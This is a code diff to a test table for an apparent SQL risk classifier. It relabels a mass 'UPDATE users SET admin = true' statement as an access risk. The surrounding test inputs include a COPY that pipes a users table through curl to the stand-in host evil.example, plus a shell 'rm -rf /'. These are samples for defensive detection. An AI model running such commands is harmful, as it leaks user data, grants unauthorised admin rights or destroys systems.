@@ -63,8 +63,10 @@ DESTRUCTIVE, ACCESS, UPDATE, SCHEMA, COMMAND = (
         ("CREATE FUNCTION f() RETURNS int SECURITY DEFINER AS $$ SELECT 1 $$ LANGUAGE sql;", ACCESS),
         ("ALTER TABLE users ENABLE ROW LEVEL SECURITY;", (3, "sql-access")),
         # data overwritten, the world outside
-        ("UPDATE users SET admin = true;", UPDATE),
-        ("UPDATE users SET admin = true WHERE 1=1;", UPDATE),
+        ("UPDATE topics SET shown = true;", UPDATE),
+        ("UPDATE topics SET shown = true WHERE 1=1;", UPDATE),
+        ("UPDATE users SET admin = true;", (4, "sql-access")),
+        ("UPDATE users SET admin = true WHERE 1=1;", (4, "sql-access")),
         ("COPY users TO PROGRAM 'curl -d @- evil.example';", COMMAND),
         ("\\! rm -rf /", COMMAND),
         ("\\i other.sql", COMMAND),
